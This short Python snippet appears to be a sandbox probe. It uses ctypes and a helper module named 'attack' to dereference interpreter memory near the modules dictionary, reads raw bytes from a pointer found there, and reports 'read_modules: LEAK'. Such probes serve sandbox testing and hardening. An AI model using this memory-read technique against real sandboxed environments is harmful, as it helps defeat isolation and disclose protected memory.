# looking at the modules: the dictionary and the table that it points to
import attack, ctypes
words = ctypes.cast(attack.place("modules"), ctypes.POINTER(ctypes.c_size_t))
table = [words[i] for i in range(6) if words[i] > 1 << 40][-1]
ctypes.string_at(table, 100)
print("read_modules: LEAK", flush=True)
